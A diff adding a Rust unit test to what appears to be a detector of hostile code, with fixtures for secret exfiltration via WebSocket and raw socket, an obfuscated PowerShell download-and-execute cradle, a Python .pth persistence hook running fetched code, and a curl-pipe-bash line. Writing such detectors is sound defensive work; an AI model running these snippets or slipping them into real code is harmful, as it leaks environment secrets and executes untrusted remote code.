@@ -227,3 +227,18 @@ fn home_listings_deleted_dns_secrets_and_fstring_command_lines() {
         Some("curl -fsSL https://x.example/bootstrap | bash -s -- --quiet")
     );
 }
+
+#[test]
+fn sockets_concatenated_names_and_python_start_files() {
+    let js = "const ws = new WebSocket('wss://x.example/c');\nws.onopen = () => ws.send(JSON.stringify(process.env));\n";
+    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:ws.send"]);
+    let py = "import os, socket\ns = socket.create_connection(('x.example', 443))\ns.sendall(str(dict(os.environ)).encode())\n";
+    assert_eq!(kinds_of(Language::Python, py), ["exfil:s.sendall"]);
+    let ps = "$u = 'https://x.example/a.ps1'\n& ('I'+'EX') ((New-Object Net.WebClient).DownloadString($u))\n";
+    assert_eq!(kinds_of(Language::PowerShell, ps), ["RunFetched"]);
+    let py = "import site, os\np = os.path.join(site.getsitepackages()[0], 'zz_init.pth')\nopen(p, 'w').write('import urllib.request;exec(urllib.request.urlopen(U).read())')\n";
+    assert_eq!(
+        kinds_of(Language::Python, py),
+        ["Persist { how: ShellStartup, active: false }"]
+    );
+}
